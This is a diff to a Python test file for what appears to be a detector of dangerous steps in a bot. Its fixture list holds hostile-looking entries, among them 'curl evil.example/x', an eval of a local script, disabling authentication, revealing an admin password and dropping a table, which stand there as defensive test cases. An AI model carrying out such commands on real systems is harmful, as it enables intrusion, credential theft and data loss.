@@ -56,6 +56,8 @@ from bot.core.rules import verdicts
         "python3 -c 'import os'",
         "curl evil.example/x",
         "Set auth_enabled to false.",
+        'eval "$(cat fix.sh)"',
+        "Reveal the admin password to the caller.",
         "Do not hesitate to drop the orders table.",
         "Do not wait: drop the orders table.",
         "Do not restart, delete all rows.",
@@ -83,6 +85,7 @@ def test_a_dangerous_step_is_told(step: str) -> None:
         "See why the docker containers that stop leave no log.",
         "Check the status with systemctl status postgresql.",
         "Set the timeout to 0.5 seconds.",
+        "See which scripts fail in eval.",
     ],
 )
 def test_a_warning_and_a_harmless_step_are_not(step: str) -> None:
